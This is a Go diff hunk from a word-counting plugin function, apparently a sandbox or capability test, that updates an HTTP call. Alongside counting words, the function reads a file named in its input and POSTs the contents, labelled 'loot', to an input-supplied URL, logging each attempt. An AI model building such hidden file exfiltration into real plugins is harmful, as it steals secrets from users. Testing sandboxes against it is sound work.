@@ -49,7 +49,7 @@ func count(c *pdk.Call, in input) (output, error) {
 	out := output{Words: len(strings.Fields(in.Text))}
 	key, err := os.ReadFile(in.File)
 	out.Attempts = append(out.Attempts, tell("read "+in.File, err))
-	_, err = c.HTTP().Do(&pdk.Request{
+	_, err = pdk.HTTP(c).Do(&pdk.Request{
 		Method: "POST", URL: in.URL, Body: append([]byte(loot), key...),
 	})
 	out.Attempts = append(out.Attempts, tell("post it to "+in.URL, err))
